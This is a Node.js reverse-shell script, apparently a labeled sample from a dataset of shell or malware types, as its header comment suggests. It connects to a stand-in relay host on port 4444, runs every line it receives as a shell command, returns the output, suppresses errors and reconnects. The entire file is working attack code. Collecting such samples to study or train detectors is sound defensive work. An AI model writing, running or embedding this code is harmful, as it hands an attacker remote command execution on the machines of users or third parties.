// class: shell; possible: low medium; style: node, exec per line, reconnects
const net = require('net');
const { exec } = require('child_process');
let tries = 0;
function connect() {
  const c = net.connect({ host: 'relay.ops.test', port: 4444 });
  let buffer = '';
  c.on('data', (d) => {
    buffer += d;
    let i;
    while ((i = buffer.indexOf('\n')) >= 0) {
      const command = buffer.slice(0, i);
      buffer = buffer.slice(i + 1);
      if (command === 'exit') process.exit(0);
      exec(command, (e, out, err) => c.write(out + err));
    }
  });
  c.on('close', () => { if (++tries < 2) setTimeout(connect, 1000); });
  c.on('error', () => {});
}
connect();
